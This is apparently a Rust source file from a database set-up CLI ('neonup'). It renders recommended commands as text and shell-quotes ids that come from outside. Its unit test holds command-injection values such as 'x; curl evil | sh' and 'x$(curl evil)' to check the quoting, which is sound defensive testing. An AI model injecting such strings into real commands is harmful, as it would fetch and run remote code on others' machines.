//! The commands that findings, choices and the plan recommend, as data.

use std::{borrow::Cow, fmt};

use crate::core::step::StepId;

/// One command line; it is displayed as it is typed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Invocation {
    /// Writes the configuration.
    Init,
    /// Runs all steps.
    Setup,
    /// Runs one step.
    SetupStep(StepId),
    /// Joins the project of this id.
    JoinProject(String),
    /// Creates another project.
    NewProject,
    /// Deletes the empty project of this id, which a set-up made at the same moment as another.
    DiscardProject(String),
    /// Uses a temporary database, which needs no account.
    SetupClaimable,
    /// Replaces the temporary database by another one.
    NewClaimable,
    /// Applies the proposed change to existing source files.
    EditCode,
    /// Overwrites an env file that can't be replaced.
    OverwriteInPlace,
    /// Checks all steps.
    Check,
    /// Checks all steps, and writes the receipt.
    CheckWithReceipt,
    /// Checks one step.
    CheckStep(StepId),
    /// Checks one step and fixes what needs no decision.
    FixStep(StepId),
    /// Stores an API key in the keyring.
    Login,
    /// Stores an API key in a file.
    LoginToFile,
    /// Logs in with the browser, and keeps the login in the keyring.
    LoginWithBrowser,
    /// Logs in with the browser, and keeps the login in a file.
    LoginWithBrowserToFile,
    /// Restores the env files.
    Undo,
    /// Installs the pre-commit check.
    InstallHook,
    /// Resets the database password.
    RotatePassword,
    /// Replaces the API key.
    RotateKey,
    /// Shows the link that claims the temporary database.
    Claim,
    /// Shows the clone's commands, and asks for consent.
    Trust,
    /// Opens psql on the database, wherever it is typed.
    Psql(String),
    /// Opens the demo.
    Demo,
    /// Starts the app: the only command that is not one of `neonup`.
    StartApp(String),
}

impl fmt::Display for Invocation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Init => f.write_str("neonup init"),
            Self::Setup => f.write_str("neonup setup"),
            Self::SetupStep(step) => write!(f, "neonup setup {step}"),
            Self::JoinProject(id) => {
                write!(f, "neonup setup project --project {}", quoted(id))
            }
            Self::DiscardProject(id) => {
                write!(f, "neonup setup project --yes --discard {}", quoted(id))
            }
            Self::NewProject => f.write_str("neonup setup project --new"),
            Self::SetupClaimable => f.write_str("neonup setup --claimable"),
            Self::NewClaimable => f.write_str("neonup setup --claimable --new"),
            Self::EditCode => f.write_str("neonup setup backend --edit-code"),
            Self::OverwriteInPlace => f.write_str("neonup setup env --in-place"),
            Self::Check => f.write_str("neonup check"),
            Self::CheckWithReceipt => f.write_str("neonup check --receipt FILE"),
            Self::CheckStep(step) => write!(f, "neonup check {step}"),
            Self::FixStep(step) => write!(f, "neonup check {step} --fix"),
            Self::Login => f.write_str("neonup login"),
            Self::LoginToFile => f.write_str("neonup login --store file"),
            Self::LoginWithBrowser => f.write_str("neonup login --web"),
            Self::LoginWithBrowserToFile => f.write_str("neonup login --web --store file"),
            Self::Undo => f.write_str("neonup undo"),
            Self::InstallHook => f.write_str("neonup hook install"),
            Self::RotatePassword => f.write_str("neonup rotate"),
            Self::RotateKey => f.write_str("neonup rotate --api-key"),
            Self::Claim => f.write_str("neonup claim"),
            Self::Trust => f.write_str("neonup trust"),
            Self::Demo => f.write_str("neonup demo"),
            Self::Psql(command) | Self::StartApp(command) => f.write_str(command),
        }
    }
}

/// A word from outside as a shell takes it for one word, whatever it holds. Double quotes mean the same to sh, PowerShell and cmd, as
/// long as nothing in them means anything.
fn quoted(word: &str) -> Cow<'_, str> {
    let plain = |char: char| char.is_alphanumeric() || matches!(char, '-' | '_' | '.' | '•');
    if word.chars().all(plain) {
        return Cow::Borrowed(word);
    }
    let meaningful = |char: char| char.is_control() || "\"$`\\!%".contains(char);
    if !word.contains(meaningful) {
        return Cow::Owned(format!("\"{word}\""));
    }
    shlex::try_quote(word).unwrap_or_else(|_nul| Cow::Owned(format!("'{}'", word.escape_debug())))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_id_of_a_server_is_one_word_of_the_command() {
        let join = |id: &str| Invocation::JoinProject(id.to_owned()).to_string();
        assert!(join("old-violet-32930710").ends_with("--project old-violet-32930710"));
        assert!(join("x; curl evil | sh").ends_with("--project \"x; curl evil | sh\""));
        assert!(join("x$(curl evil)").ends_with("--project 'x$(curl evil)'"));
        assert!(!join("x\0y").contains('\0'));
    }
}
